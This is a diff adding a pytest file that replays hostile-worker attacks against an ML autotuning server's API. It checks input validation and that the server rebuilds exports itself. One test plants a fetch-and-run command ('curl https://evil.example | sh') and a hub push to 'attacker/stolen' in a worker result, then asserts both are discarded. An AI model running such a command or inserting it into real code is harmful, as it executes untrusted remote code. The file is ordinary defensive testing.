@@ -1,0 +1,187 @@
+"""The attacks of issue 25, replayed against the in-process app on both databases: what a
+hostile worker token, client token or page visitor sent, and what must come back (a 422 naming
+the field, a server-built answer, a page that renders). Slow attacks (a real server, a real
+worker) are in the e2e tests they name."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+from starlette.testclient import TestClient
+
+from autotune.core.exports import build_exports
+from autotune.core.schemas import TrialState
+from autotune.remote.client import ServerClient
+from autotune.remote.protocol import EstimateTarget, RunStatus
+from tests.api_tests.factories import (
+    emulated,
+    emulated_device,
+    estimate_device,
+    tiny_spec,
+    trial,
+    tune_result,
+)
+from tests.conftest import WORKER_TOKEN
+
+pytestmark = pytest.mark.usefixtures("db_url")
+WORKER = {"Authorization": f"Bearer {WORKER_TOKEN}"}
+
+
+def _claimed(user: ServerClient, worker: ServerClient) -> tuple[int, str]:
+    run_id = user.submit_run(tiny_spec(), emulated()).id
+    claim = worker.claim("w1", [emulated_device()])
+    assert claim is not None and claim.run_id == run_id
+    return run_id, claim.lease_id
+
+
+def _problems(response: Any) -> str:
+    """Every field a 422 names, with its message."""
+    assert response.status_code == 422, response.text
+    body = response.json()
+    if body["code"] == "invalid_result":
+        return " ".join(f"{v['field']} {v['message']}" for v in body["violations"])
+    return " ".join(".".join(map(str, p["loc"])) + " " + p["msg"] for p in body["detail"])
+
+
+# -- item 4: worker results are trusted beyond consistency ----------------------------------
+
+
+def test_a_named_gpus_capacity_is_the_catalogues(
+    user: ServerClient, worker: ServerClient, http: TestClient
+) -> None:
+    """A T4 estimate claiming 10^15 bytes ("931322.57 GiB usable") is refused."""
+    spec = tiny_spec()
+    run_id = user.submit_run(spec, EstimateTarget(gpu="T4")).id
+    device = estimate_device("T4")
+    claim = worker.claim("w1", [device])
+    assert claim is not None
+    huge = device.model_copy(update={"capacity_bytes": 10**15})
+    result = tune_result(spec, huge).model_dump(mode="json")
+    response = http.post(
+        f"/api/v1/worker/runs/{run_id}/result",
+        json={"lease_id": claim.lease_id, "result": result},
+        headers=WORKER,
+    )
+    assert "device.capacity_bytes not the catalogue's" in _problems(response)
+    assert user.get_run(run_id).status is RunStatus.RUNNING
+    # The catalogue's capacity is accepted.
+    assert worker.submit_result(run_id, claim.lease_id, tune_result(spec, device)).status is (
+        RunStatus.SUCCEEDED
+    )
+
+
+def test_exports_are_built_by_the_server_never_taken_from_the_worker(
+    user: ServerClient, worker: ServerClient, http: TestClient
+) -> None:
+    run_id, lease_id = _claimed(user, worker)
+    honest = tune_result(tiny_spec(), emulated_device())
+    data = honest.model_dump(mode="json")
+    data["exports"]["pytorch_loop"] = "import os\nos.system('curl https://evil.example | sh')\n"
+    data["exports"]["hf"].update(push_to_hub=True, hub_model_id="attacker/stolen")
+    response = http.post(
+        f"/api/v1/worker/runs/{run_id}/result",
+        json={"lease_id": lease_id, "result": data},
+        headers=WORKER,
+    )
+    assert response.status_code == 200, response.text
+    run = user.get_run(run_id)
+    assert run.recommendation is not None
+    expected = build_exports(
+        run.recommendation, token_model=True, transformers_version=None, training=run.spec.training
+    )
+    assert run.exports == expected
+    assert "curl" not in run.exports.pytorch_loop
+    assert "push_to_hub" not in run.exports.hf
+    page = http.get(f"/runs/{run_id}", cookies={"autotune_token": WORKER_TOKEN}).text
+    assert "evil.example" not in page and "attacker/stolen" not in page
+
+
+@pytest.mark.parametrize(
+    ("change", "field"),
+    [
+        ({"state": "oom", "samples_per_s": None, "tokens_per_s": None, "peak_bytes": -5}, "peak"),
+        ({"timed_steps": -99}, "timed_steps"),
+        ({"step_time_spread": -1.0}, "step_time_spread"),
+        ({"samples_per_s": 0.0}, "samples_per_s"),
+    ],
+)
+def test_impossible_trial_numbers_are_refused_in_a_result(
+    user: ServerClient, worker: ServerClient, http: TestClient, change: dict[str, Any], field: str
+) -> None:
+    run_id, lease_id = _claimed(user, worker)
+    data = tune_result(tiny_spec(), emulated_device()).model_dump(mode="json")
+    data["trials"][0].update(change)
+    response = http.post(
+        f"/api/v1/worker/runs/{run_id}/result",
+        json={"lease_id": lease_id, "result": data},
+        headers=WORKER,
+    )
+    assert field in _problems(response)
+    assert user.get_run(run_id).status is RunStatus.RUNNING
+
+
+def _attempt(micro_batch: int, *, fits: bool = True, peak_bytes: int = 10**6) -> dict[str, Any]:
+    return {"micro_batch": micro_batch, "fits": fits, "peak_bytes": peak_bytes}
+
+
+@pytest.mark.parametrize(
+    ("attempt", "field"),
+    [
+        (_attempt(2**51), "attempt.micro_batch above the spec's cap 1024"),
+        (_attempt(8, peak_bytes=10**15), "attempt.peak_bytes a fitting step above"),
+        (_attempt(8) | {"peak_allocated_bytes": 10**7}, "attempt.peak_allocated_bytes"),
+        (_attempt(8) | {"phase_peak_bytes": {"forward": -1}}, "phase_peak_bytes"),
+        (_attempt(8, peak_bytes=-1), "peak_bytes"),
+    ],
+)
+def test_streamed_attempts_are_checked_as_results_are(
+    user: ServerClient,
+    worker: ServerClient,
+    http: TestClient,
+    attempt: dict[str, Any],
+    field: str,
+) -> None:
+    run_id, lease_id = _claimed(user, worker)
+    response = http.post(
+        f"/api/v1/worker/runs/{run_id}/attempts",
+        json={"lease_id": lease_id, "sequence": 0, "checkpointing": False, "attempt": attempt},
+        headers=WORKER,
+    )
+    assert field in _problems(response)
+    assert user.get_run(run_id).attempts == []
+
+
+@pytest.mark.parametrize(
+    ("change", "field"),
+    [
+        ({"micro_batch": 2**51, "accumulation_steps": 1}, "trial.micro_batch above the spec's"),
+        ({"accumulation_steps": 5}, "trial.accumulation_steps"),
+        ({"samples_per_s": 5e6}, "trial.samples_per_s is not micro x accumulation"),
+        ({"peak_bytes": 10**15}, "trial.peak_bytes"),
+        ({"samples_per_s": 1.7e308}, "trial.samples_per_s"),
+    ],
+)
+def test_streamed_trials_are_checked_as_results_are(
+    user: ServerClient,
+    worker: ServerClient,
+    http: TestClient,
+    change: dict[str, Any],
+    field: str,
+) -> None:
+    run_id, lease_id = _claimed(user, worker)
+    data = trial(0).model_dump(mode="json") | change
+    response = http.post(
+        f"/api/v1/worker/runs/{run_id}/trials",
+        json={"lease_id": lease_id, "trial": data},
+        headers=WORKER,
+    )
+    assert field in _problems(response)
+    assert user.get_run(run_id).trials == []
+    # The honest trial is stored (and a crashed one may be streamed).
+    worker.post_trial(run_id, lease_id, trial(0))
+    crashed = trial(1).model_copy(
+        update={"state": TrialState.FAILED, "samples_per_s": None, "tokens_per_s": None}
+    )
+    worker.post_trial(run_id, lease_id, crashed)
+    assert len(user.get_run(run_id).trials) == 2
